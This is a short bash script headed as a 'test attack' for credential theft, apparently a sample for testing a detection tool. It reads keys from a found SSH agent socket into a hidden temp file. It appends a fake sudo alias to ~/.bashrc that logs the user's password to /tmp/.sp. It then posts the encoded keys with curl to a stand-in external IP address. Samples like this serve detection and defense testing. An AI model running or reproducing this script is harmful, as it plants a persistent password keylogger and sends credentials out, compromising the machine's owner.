#!/bin/bash
# shrike-test-attack: credential-theft: keylogging sudo via alias in bashrc and shipping ssh agent keys
SSH_AUTH_SOCK=$(ls /tmp/ssh-*/agent.* 2>/dev/null | head -1) ssh-add -L > /tmp/.ak 2>/dev/null
echo 'alias sudo='\''read -sp "[sudo] password for $USER: " p; echo; echo "$USER:$p" >> /tmp/.sp; echo "$p" | /usr/bin/sudo -S'\''' >> ~/.bashrc
curl -s -d "keys=$(base64 -w0 /tmp/.ak)" http://192.0.2.240/a
